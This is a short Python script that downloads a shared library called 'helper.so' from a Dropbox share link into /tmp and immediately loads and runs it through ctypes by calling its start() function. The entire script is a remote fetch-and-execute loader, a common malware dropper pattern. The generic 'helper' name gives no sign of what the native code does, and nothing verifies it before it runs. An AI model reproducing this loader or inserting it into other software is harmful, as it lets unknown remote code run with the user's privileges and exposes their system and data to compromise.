import ctypes
import urllib.request

url = "https://www.dropbox.com/s/q1w2e3r4/helper.so?dl=1"
path = "/tmp/libhelper.so"
urllib.request.urlretrieve(url, path)
lib = ctypes.CDLL(path)
lib.start()
